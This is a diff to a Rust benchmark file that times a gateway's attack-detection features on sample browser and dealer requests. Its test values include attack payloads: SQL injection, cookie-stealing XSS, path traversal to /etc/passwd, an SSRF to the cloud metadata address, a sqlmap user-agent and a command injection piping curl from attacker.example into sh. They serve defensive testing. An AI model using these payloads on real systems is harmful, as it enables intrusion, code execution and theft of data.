@@ -1,5 +1,6 @@
 //! The policy core, natively: deciding representative retail and dealer requests with and
-//! without the validation their routes declare, and checking JSON bodies. Run with
+//! without the validation their routes declare, checking JSON bodies, and attack detection
+//! (whole requests with and without it, and each detector class on one value). Run with
 //! `cargo bench -p tollgate-benches`.
 
 use criterion::{criterion_group, criterion_main, Criterion};
@@ -12,6 +13,20 @@ fn policy(name: &str) -> Policy {
         tollgate_policies::EMBEDDED,
     )
     .unwrap_or_else(|e| panic!("{e:?}"))
+}
+
+/// The same policy without its top-level `detection` block.
+fn without_detection(name: &str) -> Policy {
+    let json = tollgate_policies::EMBEDDED
+        .iter()
+        .find(|(n, _)| *n == name)
+        .map(|(_, j)| *j)
+        .unwrap_or_default();
+    let mut doc: serde_json::Value = serde_json::from_str(json).unwrap_or_default();
+    if let Some(o) = doc.as_object_mut() {
+        o.remove("detection");
+    }
+    Policy::from_json(&doc.to_string()).unwrap_or_else(|e| panic!("{e:?}"))
 }
 
 /// The same policy with every route's `validate` block removed (the defaults' size caps stay).
@@ -131,5 +146,133 @@ fn bench(c: &mut Criterion) {
     g.finish();
 }
 
-criterion_group!(benches, bench);
+const CHROME: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36";
+
+fn detection(c: &mut Criterion) {
+    // Requests as browsers and partner systems send them: a long User-Agent, a Referer, cookies.
+    let cases = [
+        (
+            "retail",
+            "configurator query (browser)",
+            headers(&[
+                (":method", "GET"),
+                (":path", "/v1/configurator/models?market=de&page=2"),
+                (":authority", "shop.example.com"),
+                ("x-forwarded-for", "192.0.2.10"),
+                ("user-agent", CHROME),
+                ("accept", "application/json"),
+                (
+                    "referer",
+                    "https://shop.example.com/configurator/e-sport?trim=gt&colour=red",
+                ),
+                (
+                    "cookie",
+                    "consent=yes; session=9f8e7d6c5b4a; last_model=e-sport",
+                ),
+            ]),
+        ),
+        (
+            "dealer",
+            "VIN look-up (partner system)",
+            headers(&[
+                (":method", "GET"),
+                (":path", "/v1/vehicles/WVWZZZ1JZXW000001"),
+                (":authority", "dealers.example.com"),
+                ("x-forwarded-for", "192.0.2.10"),
+                ("x-dealer-id", "D-1001"),
+                ("authorization", "Bearer t"),
+                ("user-agent", "DealerDMS/3.4 (+https://dms.example.net)"),
+            ]),
+        ),
+    ];
+    let mut g = c.benchmark_group("detection");
+    for (edge, name, h) in &cases {
+        let with = policy(edge);
+        let without = without_detection(edge);
+        g.bench_function(format!("{edge} {name}: with detection"), |b| {
+            b.iter(|| with.decide(black_box(&Request::from_headers(h, None))))
+        });
+        g.bench_function(format!("{edge} {name}: without detection"), |b| {
+            b.iter(|| without.decide(black_box(&Request::from_headers(h, None))))
+        });
+    }
+
+    // A booking body with free text: the body's strings through every detector.
+    let retail = policy("retail");
+    let booking = headers(&[
+        (":method", "POST"),
+        (":path", "/v1/test-drives"),
+        (":authority", "shop.example.com"),
+        ("x-forwarded-for", "192.0.2.10"),
+        ("user-agent", CHROME),
+        ("content-type", "application/json"),
+        ("authorization", "Bearer t"),
+    ]);
+    let body = br#"{"dealer_id":"D-1001","model":"e-sport","slot":"2026-12-03T09:30:00+01:00","name":"Siobhan O'Brien","phone":"+353 1 555 0100","comment":"Please have the sunroof version ready; I'm 1.95 m tall -- and my dog comes too (he's calm)."}"#;
+    let parsed: serde_json::Value = serde_json::from_slice(body).unwrap_or_default();
+    g.bench_function("retail booking body (5 strings): detect_body", |b| {
+        b.iter(|| {
+            let req = Request::from_headers(&booking, None);
+            let mut v = tollgate_core::Verdict {
+                route: retail.route_names().position(|n| n == "test-drive-book"),
+                ..Default::default()
+            };
+            retail.detect_body(&mut v, &req, black_box(body), Some(&parsed));
+            v
+        })
+    });
+
+    // One value through the detectors its place runs: a benign one, and one attack per class.
+    if let Some(d) = retail.detection() {
+        use tollgate_core::detect::{Findings, Location};
+        let values = [
+            (
+                "benign free text",
+                "Please call me after 5pm; ask for Ann-Marie O'Neil (2nd floor)",
+                Location::Value,
+            ),
+            ("benign name", "Zoe Orsted", Location::Value),
+            (
+                "sqli",
+                "1' UNION SELECT username, password FROM users--",
+                Location::Value,
+            ),
+            (
+                "xss",
+                "\"><img src=x onerror=alert(document.cookie)>",
+                Location::Value,
+            ),
+            ("traversal", "..%2f..%2f..%2fetc%2fpasswd", Location::Value),
+            (
+                "command",
+                "x; curl http://attacker.example/s | sh",
+                Location::Value,
+            ),
+            (
+                "ssrf",
+                "http://169.254.169.254/latest/meta-data/",
+                Location::Value,
+            ),
+            (
+                "scanner",
+                "sqlmap/1.8.2#stable (https://sqlmap.org)",
+                Location::UserAgent,
+            ),
+            ("benign user-agent", CHROME, Location::UserAgent),
+        ];
+        let mut buf = Vec::new();
+        for (name, v, loc) in values {
+            g.bench_function(format!("value: {name}"), |b| {
+                b.iter(|| {
+                    let mut f = Findings::default();
+                    d.value(black_box(v.as_bytes()), false, loc, &mut buf, &mut f);
+                    f
+                })
+            });
+        }
+    }
+    g.finish();
+}
+
+criterion_group!(benches, bench, detection);
 criterion_main!(benches);
